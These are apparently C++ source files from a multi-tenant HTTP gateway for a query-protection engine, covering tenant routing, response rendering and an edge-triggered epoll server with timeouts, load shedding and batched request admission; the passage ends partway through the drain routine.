  std::size_t shard_count() const;
  std::vector<ShardStats> shard_stats() const;

  // Installs a hook that augments stats() with daemon-fleet resilience
  // counters (restarts, quarantines, hedges, retry denials). Call before
  // Start(); the hook runs on whatever thread calls stats().
  void SetResilienceProvider(std::function<void(GatewayStats&)> provider) {
    resilience_provider_ = std::move(provider);
  }

 private:
  std::unique_ptr<internal::GatewayShared> shared_;
  std::unique_ptr<internal::ServerImpl> impl_;
  int port_ = 0;
  std::atomic<bool> running_{false};
  std::function<void(GatewayStats&)> resilience_provider_;
};

}  // namespace joza::gateway
