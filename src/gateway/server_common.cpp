#include "gateway/server_impl.h"

#include "util/strings.h"
#include "webapp/http_server.h"

namespace joza::gateway::internal {

bool WantsKeepAlive(std::string_view raw) {
  const std::size_t line_end = raw.find("\r\n");
  const bool http11 =
      raw.substr(0, line_end == std::string_view::npos ? 0 : line_end)
          .find("HTTP/1.1") != std::string_view::npos;
  const std::size_t header_end = raw.find("\r\n\r\n");
  const std::string_view headers =
      raw.substr(0, header_end == std::string_view::npos ? raw.size()
                                                         : header_end);
  const std::size_t conn = FindIgnoreCase(headers, "connection:");
  if (conn == std::string_view::npos) return http11;
  const std::size_t value_end = headers.find("\r\n", conn);
  const std::string_view value = headers.substr(
      conn, value_end == std::string_view::npos ? headers.size() - conn
                                                : value_end - conn);
  if (FindIgnoreCase(value, "close") != std::string_view::npos) return false;
  if (FindIgnoreCase(value, "keep-alive") != std::string_view::npos) {
    return true;
  }
  return http11;
}

TenantRoute ResolveTenant(GatewayShared& shared, http::Request& request) {
  TenantRoute route;
  route.id = tenant::kDefaultTenant;
  if (shared.fleet == nullptr) return route;

  // /t/<tenant>/rest takes precedence over the header; the prefix is
  // stripped only once the id is accepted, so a fallback to the default
  // tenant (or a 404) leaves the path untouched.
  std::string_view requested;
  std::string stripped_path;
  bool have_explicit = false;
  bool from_prefix = false;
  const std::string_view path = request.path;
  if (path.size() > 3 && path.compare(0, 3, "/t/") == 0) {
    const std::size_t slash = path.find('/', 3);
    requested = path.substr(3, slash == std::string_view::npos
                                   ? std::string_view::npos
                                   : slash - 3);
    stripped_path = slash == std::string_view::npos
                        ? std::string("/")
                        : std::string(path.substr(slash));
    have_explicit = true;
    from_prefix = true;
  } else {
    // ParseRawRequest lowercases header names.
    for (const http::Input& header : request.headers) {
      if (header.name == "x-joza-tenant") {
        requested = header.value;
        have_explicit = true;
        break;
      }
    }
  }

  if (have_explicit &&
      (!tenant::ValidTenantId(requested) || !shared.fleet->Has(requested))) {
    // Unknown/malformed/oversized tenant id: policy decides. The strict
    // grammar check also runs before any filesystem-adjacent use, so a
    // hostile id ("../x") can never name a cold-store or snapshot path.
    if (shared.config.unknown_tenant ==
        GatewayConfig::UnknownTenant::kNotFound) {
      route.not_found = true;
      shared.tenant_404s.fetch_add(1, std::memory_order_relaxed);
      return route;
    }
    have_explicit = false;  // fall back to the default tenant
    from_prefix = false;
  }

  if (have_explicit) {
    route.id.assign(requested.data(), requested.size());
    if (from_prefix) request.path = std::move(stripped_path);
  } else if (!shared.fleet->Has(route.id)) {
    // No default tenant registered: nothing to fall back to.
    route.not_found = true;
    shared.tenant_404s.fetch_add(1, std::memory_order_relaxed);
    return route;
  }
  shared.tenant_routed.fetch_add(1, std::memory_order_relaxed);
  return route;
}

std::string RenderResponse(const http::Response& response, bool keep_alive) {
  std::string out = "HTTP/1.1 " + std::to_string(response.status) + " " +
                    webapp::ReasonPhrase(response.status) + "\r\n";
  out += "Content-Type: text/html\r\n";
  out += "Content-Length: " + std::to_string(response.body.size()) + "\r\n";
  out += "X-Virtual-Time-Ms: " + std::to_string(response.virtual_time_ms) +
         "\r\n";
  out += keep_alive ? "Connection: keep-alive\r\n\r\n"
                    : "Connection: close\r\n\r\n";
  out += response.body;
  return out;
}

}  // namespace joza::gateway::internal
