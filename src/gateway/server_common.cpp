#include "gateway/server_impl.h"

#include "util/strings.h"
#include "webapp/http_server.h"

namespace joza::gateway::internal {

bool WantsKeepAlive(std::string_view raw) {
  const std::size_t line_end = raw.find("\r\n");
  const bool http11 =
      raw.substr(0, line_end == std::string_view::npos ? 0 : line_end)
          .find("HTTP/1.1") != std::string_view::npos;
  const std::size_t header_end = raw.find("\r\n\r\n");
  const std::string_view headers =
      raw.substr(0, header_end == std::string_view::npos ? raw.size()
                                                         : header_end);
  const std::size_t conn = FindIgnoreCase(headers, "connection:");
  if (conn == std::string_view::npos) return http11;
  const std::size_t value_end = headers.find("\r\n", conn);
  const std::string_view value = headers.substr(
      conn, value_end == std::string_view::npos ? headers.size() - conn
                                                : value_end - conn);
  if (FindIgnoreCase(value, "close") != std::string_view::npos) return false;
  if (FindIgnoreCase(value, "keep-alive") != std::string_view::npos) {
    return true;
  }
  return http11;
}

std::string RenderResponse(const http::Response& response, bool keep_alive) {
  std::string out = "HTTP/1.1 " + std::to_string(response.status) + " " +
                    webapp::ReasonPhrase(response.status) + "\r\n";
  out += "Content-Type: text/html\r\n";
  out += "Content-Length: " + std::to_string(response.body.size()) + "\r\n";
  out += "X-Virtual-Time-Ms: " + std::to_string(response.virtual_time_ms) +
         "\r\n";
  out += keep_alive ? "Connection: keep-alive\r\n\r\n"
                    : "Connection: close\r\n\r\n";
  out += response.body;
  return out;
}

}  // namespace joza::gateway::internal
