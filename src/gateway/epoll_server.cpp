// Edge-triggered epoll backend: event-loop shards with SO_REUSEPORT
// accept sockets, non-blocking read/write state machines, a timer wheel
// per shard, and batched admission into the analysis pipeline.
//
// Ownership model: every connection belongs to exactly one shard for its
// whole life — the shard's thread is the only one that touches its fd,
// parser, output buffer, or timers, so the connection table needs no
// locks. The kernel spreads accepts across the shards' SO_REUSEPORT
// listeners by 4-tuple hash. Cross-thread state is confined to
// GatewayShared's atomics and the engine's own thread-safe innards.
//
// Batched admission: each loop iteration drains up to batch_max framed
// requests from the shard's ready queue and serves them under one
// core::Joza::BatchScope, so the staged matcher's exact stage runs one
// automaton scan per distinct query for the whole batch instead of one
// build per check. Admission-control semantics (AIMD 429, deadline shed
// 503, bounded ready queue 503) are applied per request, identical to the
// thread backend.
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <sys/epoll.h>
#include <sys/eventfd.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cerrno>
#include <cstring>
#include <deque>
#include <optional>
#include <thread>
#include <unordered_map>

#include "gateway/server_impl.h"
#include "gateway/timer_wheel.h"
#include "http/request_parser.h"
#include "resilience/injector.h"
#include "util/deadline.h"

namespace joza::gateway::internal {

namespace {

using Clock = std::chrono::steady_clock;

constexpr int kMaxEvents = 256;
// Bound on the drain-time flush wait for peers slow to absorb their last
// response; after this the remaining connections are severed.
constexpr std::chrono::milliseconds kDrainFlushBudget{250};

http::Response SimpleResponse(int status, const char* body) {
  http::Response r;
  r.status = status;
  r.body = body;
  return r;
}

// Batch-size histogram buckets: 1, 2, 3-4, 5-8, 9-16, 17+.
std::size_t HistogramBucket(std::size_t batch_size) {
  if (batch_size <= 2) return batch_size - 1;
  if (batch_size <= 4) return 2;
  if (batch_size <= 8) return 3;
  if (batch_size <= 16) return 4;
  return 5;
}

// One event-loop shard: accept socket, epoll instance, connection table,
// timer wheel, ready-request queue. Runs single-threaded.
class Shard {
 public:
  explicit Shard(GatewayShared& shared)
      : shared_(shared), wheel_(Clock::now()) {}
  ~Shard();

  Status Open(int port_hint, int* bound_port);
  void Spawn() {
    thread_ = std::thread([this] { Run(); });
  }
  void Join() {
    if (thread_.joinable()) thread_.join();
  }
  void Wake();

  ShardStats Snapshot() const {
    ShardStats out;
    out.connections = conns_accepted_.load(std::memory_order_relaxed);
    out.batches = batches_.load(std::memory_order_relaxed);
    out.requests = batch_requests_.load(std::memory_order_relaxed);
    for (std::size_t i = 0; i < 6; ++i) {
      out.batch_histogram[i] = histogram_[i].load(std::memory_order_relaxed);
    }
    return out;
  }

 private:
  enum class TimerKind { kIdle, kRead };

  struct Conn {
    std::uint64_t gen = 0;
    http::RequestParser parser;
    std::string out;            // rendered responses not yet written
    std::size_t out_off = 0;
    std::size_t served = 0;     // responses produced on this connection
    std::size_t pending = 0;    // framed requests sitting in ready_
    bool peer_eof = false;      // peer half-closed; serve pending, then go
    bool want_close = false;    // close once out is flushed and pending==0
    bool read_armed = false;    // slowloris deadline armed for this request
    TimerKind timer_kind = TimerKind::kIdle;
    Clock::time_point timer_due{};      // authoritative deadline
    bool timer_scheduled = false;       // a wheel entry is outstanding
    Clock::time_point scheduled_due{};  // when that entry fires
  };

  struct Ready {
    int fd = -1;
    std::uint64_t gen = 0;
    std::string raw;
    Clock::time_point enqueued;
  };

  void Run();
  void AcceptBurst();
  void HandleEvent(const epoll_event& ev);
  // Reads until EAGAIN, frames requests into ready_, manages timers and
  // EOF. Returns false if the connection was closed.
  bool ReadAvailable(int fd, Conn& conn);
  // Appends rendered bytes and attempts a flush. Returns false if the
  // connection was closed (error, or want_close completed).
  bool Flush(int fd, Conn& conn);
  void QueueResponse(Conn& conn, const http::Response& response,
                     bool keep_alive);
  // Serves one batch (<= batch_max) from ready_ under one BatchScope.
  void ProcessBatch();
  // `route`/`pin` are set on fleet-backed servers (null otherwise): the
  // resolved tenant and the outcome of pinning its engine for this
  // request's run of the batch.
  void ServeOne(const Ready& item, const StatusOr<http::Request>& parsed,
                const TenantRoute* route = nullptr,
                const StatusOr<tenant::Fleet::EnginePin>* pin = nullptr);
  void OnTimer(const TimerWheel::Entry& entry);
  void Arm(int fd, Conn& conn, TimerKind kind, Clock::time_point due);
  void CloseConn(int fd);
  void Drain();

  const GatewayConfig& config() const { return shared_.config; }

  GatewayShared& shared_;

  int listen_fd_ = -1;
  int epoll_fd_ = -1;
  int wake_fd_ = -1;
  int reserve_fd_ = -1;  // EMFILE parachute
  std::thread thread_;

  webapp::Application* app_ = nullptr;  // set for the thread's lifetime
  TimerWheel wheel_;
  std::unordered_map<int, Conn> conns_;
  std::deque<Ready> ready_;
  std::uint64_t gen_counter_ = 0;

  // Read by stats() from other threads.
  std::atomic<std::size_t> conns_accepted_{0};
  std::atomic<std::size_t> batches_{0};
  std::atomic<std::size_t> batch_requests_{0};
  std::atomic<std::size_t> histogram_[6] = {};
};

class EpollServer : public ServerImpl {
 public:
  explicit EpollServer(GatewayShared& shared) : shared_(shared) {}
  ~EpollServer() override { Stop(); }

  StatusOr<int> Start() override;
  void Stop() override;

  std::size_t shard_count() const override { return shards_.size(); }
  std::vector<ShardStats> shard_stats() const override {
    std::vector<ShardStats> out;
    out.reserve(shards_.size());
    for (const auto& shard : shards_) out.push_back(shard->Snapshot());
    return out;
  }

 private:
  GatewayShared& shared_;
  std::vector<std::unique_ptr<Shard>> shards_;
  std::atomic<bool> running_{false};
};

Shard::~Shard() {
  if (listen_fd_ >= 0) ::close(listen_fd_);
  if (epoll_fd_ >= 0) ::close(epoll_fd_);
  if (wake_fd_ >= 0) ::close(wake_fd_);
  if (reserve_fd_ >= 0) ::close(reserve_fd_);
}

Status Shard::Open(int port_hint, int* bound_port) {
  listen_fd_ = ::socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC,
                        0);
  if (listen_fd_ < 0) {
    return Status::Unavailable(std::string("socket(): ") +
                               std::strerror(errno));
  }
  int one = 1;
  ::setsockopt(listen_fd_, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
  // Every shard binds the same port; the kernel hashes incoming 4-tuples
  // across the listeners, which is the per-core sharding mechanism.
  if (::setsockopt(listen_fd_, SOL_SOCKET, SO_REUSEPORT, &one, sizeof one) !=
      0) {
    return Status::Unavailable(std::string("setsockopt(SO_REUSEPORT): ") +
                               std::strerror(errno));
  }
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  addr.sin_port = htons(static_cast<std::uint16_t>(port_hint));
  if (::bind(listen_fd_, reinterpret_cast<sockaddr*>(&addr), sizeof addr) !=
      0) {
    return Status::Unavailable(std::string("bind(): ") +
                               std::strerror(errno));
  }
  socklen_t len = sizeof addr;
  ::getsockname(listen_fd_, reinterpret_cast<sockaddr*>(&addr), &len);
  *bound_port = ntohs(addr.sin_port);
  if (::listen(listen_fd_, config().listen_backlog) != 0) {
    return Status::Unavailable(std::string("listen(): ") +
                               std::strerror(errno));
  }

  epoll_fd_ = ::epoll_create1(EPOLL_CLOEXEC);
  if (epoll_fd_ < 0) {
    return Status::Unavailable(std::string("epoll_create1(): ") +
                               std::strerror(errno));
  }
  wake_fd_ = ::eventfd(0, EFD_NONBLOCK | EFD_CLOEXEC);
  if (wake_fd_ < 0) {
    return Status::Unavailable(std::string("eventfd(): ") +
                               std::strerror(errno));
  }
  reserve_fd_ = ::open("/dev/null", O_RDONLY | O_CLOEXEC);

  epoll_event ev{};
  ev.events = EPOLLIN;  // level-triggered for listener and wakeup
  ev.data.fd = listen_fd_;
  ::epoll_ctl(epoll_fd_, EPOLL_CTL_ADD, listen_fd_, &ev);
  ev.data.fd = wake_fd_;
  ::epoll_ctl(epoll_fd_, EPOLL_CTL_ADD, wake_fd_, &ev);
  return Status::Ok();
}

void Shard::Wake() {
  if (wake_fd_ >= 0) {
    const std::uint64_t one = 1;
    [[maybe_unused]] ssize_t n = ::write(wake_fd_, &one, sizeof one);
  }
}

void Shard::Arm(int fd, Conn& conn, TimerKind kind, Clock::time_point due) {
  conn.timer_kind = kind;
  conn.timer_due = due;
  // One outstanding wheel entry per connection is enough as long as it
  // fires no later than the authoritative deadline; OnTimer revalidates
  // against timer_due and re-schedules early fires.
  if (!conn.timer_scheduled || due < conn.scheduled_due) {
    wheel_.Schedule(fd, conn.gen, due);
    conn.timer_scheduled = true;
    conn.scheduled_due = due;
  }
}

void Shard::OnTimer(const TimerWheel::Entry& entry) {
  auto it = conns_.find(entry.fd);
  if (it == conns_.end() || it->second.gen != entry.gen) return;
  Conn& conn = it->second;
  conn.timer_scheduled = false;
  const auto now = Clock::now();
  if (conn.timer_due > now) {
    // Clamped, superseded, or re-armed entry: fire again at the real
    // deadline.
    Arm(entry.fd, conn, conn.timer_kind, conn.timer_due);
    return;
  }
  if (conn.timer_kind == TimerKind::kRead && conn.parser.has_partial()) {
    // Slowloris guard: the request started but never finished arriving.
    shared_.request_timeouts.fetch_add(1, std::memory_order_relaxed);
    QueueResponse(conn, SimpleResponse(408, "Request Timeout"), false);
    conn.want_close = true;
    Flush(entry.fd, conn);
    return;
  }
  if (conn.pending > 0) {
    // Requests admitted but not yet served (deep ready backlog): the
    // connection is not idle, give it another idle period.
    Arm(entry.fd, conn, TimerKind::kIdle,
        now + config().keepalive_timeout);
    return;
  }
  // Idle keep-alive expiry (or a write stalled for the whole idle budget):
  // sever silently, exactly like the blocking backend's SO_RCVTIMEO path.
  CloseConn(entry.fd);
}

void Shard::CloseConn(int fd) {
  auto it = conns_.find(fd);
  if (it == conns_.end()) return;
  ::close(fd);  // also removes it from the epoll interest list
  conns_.erase(it);
}

void Shard::QueueResponse(Conn& conn, const http::Response& response,
                          bool keep_alive) {
  conn.out += RenderResponse(response, keep_alive);
}

bool Shard::Flush(int fd, Conn& conn) {
  while (conn.out_off < conn.out.size()) {
    const ssize_t n = ::send(fd, conn.out.data() + conn.out_off,
                             conn.out.size() - conn.out_off, MSG_NOSIGNAL);
    if (n > 0) {
      conn.out_off += static_cast<std::size_t>(n);
      continue;
    }
    if (n < 0 && errno == EINTR) continue;
    if (n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK)) {
      return true;  // kernel buffer full; EPOLLOUT edge resumes the write
    }
    CloseConn(fd);  // peer went away mid-response
    return false;
  }
  conn.out.clear();
  conn.out_off = 0;
  if (conn.want_close && conn.pending == 0) {
    CloseConn(fd);
    return false;
  }
  return true;
}

void Shard::AcceptBurst() {
  for (;;) {
    int fd = ::accept4(listen_fd_, nullptr, nullptr,
                       SOCK_NONBLOCK | SOCK_CLOEXEC);
    if (fd < 0) {
      if (errno == EINTR) continue;
      if (errno == EMFILE || errno == ENFILE) {
        // Reserve-fd parachute: momentarily release our spare descriptor
        // so the pending connection can be accepted and immediately
        // closed — the client gets a clean refusal instead of the listen
        // backlog wedging forever.
        if (reserve_fd_ >= 0) ::close(reserve_fd_);
        int doomed = ::accept4(listen_fd_, nullptr, nullptr, SOCK_CLOEXEC);
        if (doomed >= 0) ::close(doomed);
        reserve_fd_ = ::open("/dev/null", O_RDONLY | O_CLOEXEC);
        shared_.accept_overflows.fetch_add(1, std::memory_order_relaxed);
        continue;
      }
      break;  // EAGAIN (burst drained) or listener closed
    }
    if (resilience::FaultInjector::Global().ShouldFire(
            resilience::FaultPoint::kAcceptFail)) {
      // Simulated post-accept failure (fd exhaustion, dying client): drop
      // the connection on the floor; the client sees a reset.
      ::close(fd);
      continue;
    }
    shared_.connections_accepted.fetch_add(1, std::memory_order_relaxed);
    conns_accepted_.fetch_add(1, std::memory_order_relaxed);
    int one = 1;
    ::setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);

    Conn& conn = conns_[fd];
    conn = Conn{};
    conn.gen = ++gen_counter_;
    conn.parser = http::RequestParser(config().max_request_bytes);

    epoll_event ev{};
    // Registered once, edge-triggered, for the connection's whole life:
    // readiness transitions arrive as edges and the state machines read
    // and write to EAGAIN on each one.
    ev.events = EPOLLIN | EPOLLOUT | EPOLLRDHUP | EPOLLET;
    ev.data.fd = fd;
    ::epoll_ctl(epoll_fd_, EPOLL_CTL_ADD, fd, &ev);

    Arm(fd, conn, TimerKind::kIdle,
        Clock::now() + config().keepalive_timeout);
  }
}

bool Shard::ReadAvailable(int fd, Conn& conn) {
  auto& injector = resilience::FaultInjector::Global();
  if (injector.ShouldFire(resilience::FaultPoint::kSlowClient)) {
    // Stall the shard before it reads, as if the client dribbled the
    // request in slowly — the same injection point the thread backend
    // exposes, saturating the loop without touching sockets.
    std::this_thread::sleep_for(injector.hang());
  }
  char chunk[16384];
  for (;;) {
    const ssize_t n = ::recv(fd, chunk, sizeof chunk, 0);
    if (n > 0) {
      if (!conn.parser.Feed(
              std::string_view(chunk, static_cast<std::size_t>(n)))) {
        // Size-cap guard fired (unterminated headers or declared body
        // beyond max_request_bytes).
        shared_.oversized_requests.fetch_add(1, std::memory_order_relaxed);
        QueueResponse(conn, SimpleResponse(413, "Payload Too Large"),
                      false);
        conn.want_close = true;
        return Flush(fd, conn);
      }
      continue;  // edge-triggered: keep reading until EAGAIN
    }
    if (n == 0) {
      conn.peer_eof = true;
      break;
    }
    if (errno == EINTR) continue;
    if (errno == EAGAIN || errno == EWOULDBLOCK) break;
    CloseConn(fd);  // reset
    return false;
  }

  // Frame completed requests into the shard's ready queue.
  std::string raw;
  std::size_t framed = 0;
  while (conn.parser.Next(&raw)) {
    ++framed;
    if (conn.served + conn.pending >= config().max_requests_per_connection) {
      // Per-connection cap: the capped response already said
      // "Connection: close"; anything pipelined beyond it is dropped.
      conn.want_close = true;
      break;
    }
    if (ready_.size() >= config().queue_capacity) {
      // Bounded admission queue, same overflow answer as the thread
      // backend's bounded connection queue.
      shared_.connections_rejected.fetch_add(1, std::memory_order_relaxed);
      QueueResponse(conn, SimpleResponse(503, "overloaded"), false);
      conn.want_close = true;
      break;
    }
    ready_.push_back(Ready{fd, conn.gen, std::move(raw), Clock::now()});
    ++conn.pending;
  }

  // Timer transitions. The slowloris deadline arms when a request's first
  // byte arrives and is never extended by further bytes — has_partial()
  // going true is exactly that transition. A completed request resets the
  // arming so a pipelined successor gets its own fresh budget (the
  // blocking reader arms per ReadOneRequest call the same way).
  if (framed > 0) conn.read_armed = false;
  if (conn.parser.has_partial()) {
    if (!conn.read_armed) {
      conn.read_armed = true;
      if (config().read_timeout.count() > 0) {
        Arm(fd, conn, TimerKind::kRead,
            Clock::now() + config().read_timeout);
      } else {
        // Guard disabled: the idle budget still bounds the wait, closing
        // silently like the blocking backend's SO_RCVTIMEO.
        Arm(fd, conn, TimerKind::kIdle,
            Clock::now() + config().keepalive_timeout);
      }
    }
  } else {
    conn.read_armed = false;
    Arm(fd, conn, TimerKind::kIdle,
        Clock::now() + config().keepalive_timeout);
  }

  if (conn.peer_eof) {
    if (conn.parser.has_partial()) {
      // EOF mid-request: nothing to answer.
      CloseConn(fd);
      return false;
    }
    if (conn.pending == 0 && conn.out_off >= conn.out.size()) {
      // Clean close between requests.
      CloseConn(fd);
      return false;
    }
    // The peer half-closed after sending (shutdown(SHUT_WR) clients):
    // serve what was admitted, flush, then close.
    conn.want_close = true;
  }
  if (!conn.out.empty()) return Flush(fd, conn);
  return true;
}

void Shard::HandleEvent(const epoll_event& ev) {
  const int fd = ev.data.fd;
  if (fd == listen_fd_) {
    AcceptBurst();
    return;
  }
  if (fd == wake_fd_) {
    std::uint64_t drained;
    while (::read(wake_fd_, &drained, sizeof drained) > 0) {
    }
    return;
  }
  auto it = conns_.find(fd);
  if (it == conns_.end()) return;
  Conn& conn = it->second;
  if (ev.events & (EPOLLHUP | EPOLLERR)) {
    CloseConn(fd);
    return;
  }
  if (ev.events & EPOLLOUT) {
    if (!conn.out.empty() && !Flush(fd, conn)) return;
  }
  if (ev.events & (EPOLLIN | EPOLLRDHUP)) {
    ReadAvailable(fd, conn);
  }
}

void Shard::ServeOne(const Ready& item, const StatusOr<http::Request>& parsed,
                     const TenantRoute* route,
                     const StatusOr<tenant::Fleet::EnginePin>* pin) {
  auto it = conns_.find(item.fd);
  if (it == conns_.end() || it->second.gen != item.gen) return;
  Conn& conn = it->second;
  --conn.pending;

  // Deadline-aware shed: if the request's queue wait plus the typical
  // service time already blow the budget, its client has (or is about to
  // have) timed out — a fast 503 frees the shard for work that can still
  // make its deadline.
  if (config().shed_by_deadline && config().request_deadline.count() > 0 &&
      !shared_.stopping.load(std::memory_order_relaxed)) {
    const auto waited = Clock::now() - item.enqueued;
    const auto estimate = shared_.service_ewma.estimate();
    if (waited + estimate > config().request_deadline) {
      // Not counted as served — the thread backend's shed path bypasses
      // the serve loop the same way.
      const auto shed_start = Clock::now();
      shared_.shed_by_deadline.fetch_add(1, std::memory_order_relaxed);
      QueueResponse(conn, SimpleResponse(503, "shed: deadline"), false);
      conn.want_close = true;
      Flush(item.fd, conn);
      shared_.shed_latency.Record(
          std::chrono::duration_cast<std::chrono::microseconds>(
              Clock::now() - shed_start));
      return;
    }
  }

  http::Response response;
  bool keep_alive = false;
  if (!parsed.ok()) {
    shared_.bad_requests.fetch_add(1, std::memory_order_relaxed);
    response.status = 400;
    response.body = "Bad Request";
  } else if (route != nullptr && route->not_found) {
    response.status = 404;
    response.body = "Unknown Tenant";
  } else if (pin != nullptr && !pin->ok()) {
    // Fail-closed: the tenant exists but its engine could not be pinned
    // (cold image unreadable, budget refusal). Never serve unprotected.
    shared_.tenant_unavailable.fetch_add(1, std::memory_order_relaxed);
    response.status = 503;
    response.body = "Tenant Unavailable";
  } else if (!shared_.aimd.TryAcquire()) {
    // At the adaptive concurrency limit: refuse immediately rather than
    // stacking more work onto a backend already blowing deadlines.
    shared_.throttled_by_limiter.fetch_add(1, std::memory_order_relaxed);
    response.status = 429;
    response.body = "Too Many Requests";
    keep_alive = false;
  } else {
    keep_alive = WantsKeepAlive(item.raw);
    // Per-request budget, visible to the Joza engine (and through it the
    // daemon pool) as the ambient deadline for this shard thread.
    util::Deadline request_deadline;
    if (config().request_deadline.count() > 0) {
      request_deadline = util::Deadline::After(config().request_deadline);
    }
    const auto handle_start = Clock::now();
    {
      util::ScopedRequestDeadline scope(request_deadline);
      if (pin != nullptr) {
        // The pin keeps the tenant's engine alive across a concurrent
        // demotion; the gate is swapped out again before the pin drops.
        app_->SetQueryGate(pin->value()->MakeGate());
        response = app_->Handle(parsed.value());
        app_->SetQueryGate(nullptr);
      } else {
        response = app_->Handle(parsed.value());
      }
    }
    const auto elapsed = Clock::now() - handle_start;
    // A completion that consumed the whole budget is the AIMD overload
    // signal; on-time completions grow the limit back.
    const bool overloaded = config().request_deadline.count() > 0 &&
                            elapsed >= config().request_deadline;
    shared_.service_ewma.Record(
        std::chrono::duration_cast<std::chrono::microseconds>(elapsed));
    shared_.aimd.Release(overloaded);
  }
  // During drain, finish this request but do not start another.
  if (shared_.stopping.load(std::memory_order_relaxed)) keep_alive = false;
  if (conn.served + 1 >= config().max_requests_per_connection) {
    keep_alive = false;
  }
  if (conn.peer_eof || conn.want_close) keep_alive = false;

  // Count before the send: a client that has its response in hand must
  // observe the request in stats() (tests and monitoring read it there).
  shared_.requests_served.fetch_add(1, std::memory_order_relaxed);
  if (conn.served > 0) {
    shared_.keepalive_reuses.fetch_add(1, std::memory_order_relaxed);
  }
  QueueResponse(conn, response, keep_alive);
  ++conn.served;
  if (!keep_alive) conn.want_close = true;
  if (!Flush(item.fd, conn)) return;
  if (!conn.parser.has_partial()) {
    Arm(item.fd, conn, TimerKind::kIdle,
        Clock::now() + config().keepalive_timeout);
  }
}

void Shard::ProcessBatch() {
  if (ready_.empty()) return;
  const std::size_t n = std::min(ready_.size(), config().batch_max);

  struct Item {
    Ready ready;
    StatusOr<http::Request> parsed = Status::Unavailable("unparsed");
    TenantRoute route = {};
  };
  std::vector<Item> batch;
  batch.reserve(n);
  std::size_t parse_ok = 0;
  for (std::size_t i = 0; i < n; ++i) {
    Item item{std::move(ready_.front())};
    ready_.pop_front();
    item.parsed = http::ParseRawRequest(item.ready.raw);
    if (item.parsed.ok()) {
      ++parse_ok;
      item.route = ResolveTenant(shared_, item.parsed.value());
    }
    batch.push_back(std::move(item));
  }

  batches_.fetch_add(1, std::memory_order_relaxed);
  batch_requests_.fetch_add(n, std::memory_order_relaxed);
  histogram_[HistogramBucket(n)].fetch_add(1, std::memory_order_relaxed);
  shared_.batches.fetch_add(1, std::memory_order_relaxed);
  shared_.batched_requests.fetch_add(n, std::memory_order_relaxed);
  std::size_t seen_max = shared_.max_batch.load(std::memory_order_relaxed);
  while (n > seen_max && !shared_.max_batch.compare_exchange_weak(
                             seen_max, n, std::memory_order_relaxed)) {
  }

  if (shared_.fleet != nullptr) {
    // Tenant-routed batched admission: requests are served strictly in
    // batch order (HTTP pipelining demands per-connection response order),
    // so only CONSECUTIVE same-tenant items can share a pin and a
    // BatchScope. One Acquire per run also charges the residency EWMA with
    // the run's weight in a single touch.
    std::size_t i = 0;
    while (i < batch.size()) {
      const Item& head = batch[i];
      if (!head.parsed.ok() || head.route.not_found) {
        ServeOne(head.ready, head.parsed, &head.route, nullptr);
        ++i;
        continue;
      }
      std::size_t j = i + 1;
      while (j < batch.size() && batch[j].parsed.ok() &&
             !batch[j].route.not_found &&
             batch[j].route.id == head.route.id) {
        ++j;
      }
      const StatusOr<tenant::Fleet::EnginePin> pin =
          shared_.fleet->Acquire(head.route.id, j - i);
      std::optional<core::Joza::BatchScope> scope;
      if (pin.ok() && shared_.planner.PlanBatchScope(j - i)) {
        scope.emplace(*pin.value());
        for (std::size_t k = i; k < j; ++k) {
          scope->Add(batch[k].parsed.value());
        }
      }
      for (std::size_t k = i; k < j; ++k) {
        ServeOne(batch[k].ready, batch[k].parsed, &batch[k].route, &pin);
      }
      if (scope) {
        shared_.batch_exact_scans.fetch_add(scope->exact_scans(),
                                            std::memory_order_relaxed);
        shared_.batch_exact_reuses.fetch_add(scope->exact_reuses(),
                                             std::memory_order_relaxed);
      }
      i = j;
    }
    return;
  }

  // Batched admission into the analysis pipeline: one shared exact-match
  // automaton for every request in the batch — but only when the cost
  // model says the shared build amortizes (the same Planner decision the
  // matcher pipeline uses; for tiny batches per-check work already wins).
  std::optional<core::Joza::BatchScope> scope;
  if (shared_.joza != nullptr && shared_.planner.PlanBatchScope(parse_ok)) {
    scope.emplace(*shared_.joza);
    for (const Item& item : batch) {
      if (item.parsed.ok()) scope->Add(item.parsed.value());
    }
  }
  for (const Item& item : batch) {
    ServeOne(item.ready, item.parsed);
  }
  if (scope) {
    shared_.batch_exact_scans.fetch_add(scope->exact_scans(),
                                        std::memory_order_relaxed);
    shared_.batch_exact_reuses.fetch_add(scope->exact_reuses(),
                                         std::memory_order_relaxed);
  }
}

void Shard::Run() {
  // One private application per shard: handlers and the in-memory db are
  // single-threaded; only the Joza engine is shared.
  std::unique_ptr<webapp::Application> app = shared_.factory();
  if (shared_.joza != nullptr) app->SetQueryGate(shared_.joza->MakeGate());
  app_ = app.get();

  epoll_event events[kMaxEvents];
  while (!shared_.stopping.load(std::memory_order_relaxed)) {
    const auto now = Clock::now();
    const int timeout =
        ready_.empty() ? wheel_.NextDelayMs(now, /*cap_ms=*/100) : 0;
    const int n = ::epoll_wait(epoll_fd_, events, kMaxEvents, timeout);
    for (int i = 0; i < n; ++i) HandleEvent(events[i]);
    wheel_.Advance(Clock::now(),
                   [this](const TimerWheel::Entry& e) { OnTimer(e); });
    ProcessBatch();
  }
  Drain();
  app_->SetQueryGate(nullptr);
  app_ = nullptr;
}

void Shard::Drain() {
  // Stop accepting.
  if (listen_fd_ >= 0) {
    ::close(listen_fd_);
    listen_fd_ = -1;
  }
  // Serve everything already admitted (stopping forces Connection: close
  // on each response, so served connections wind down by themselves).
  while (!ready_.empty()) ProcessBatch();
  // Give peers a bounded window to absorb the final responses.
  const auto deadline = Clock::now() + kDrainFlushBudget;
  for (;;) {
    bool unflushed = false;
    for (const auto& [fd, conn] : conns_) {
      if (conn.out_off < conn.out.size()) unflushed = true;
    }
    if (!unflushed || Clock::now() >= deadline) break;
    epoll_event events[kMaxEvents];
    const int n = ::epoll_wait(epoll_fd_, events, kMaxEvents, 10);
    for (int i = 0; i < n; ++i) {
      auto it = conns_.find(events[i].data.fd);
      if (it == conns_.end()) continue;
      if (events[i].events & EPOLLOUT) Flush(it->first, it->second);
    }
  }
  // Sever whatever is left: idle keep-alives and mid-request connections.
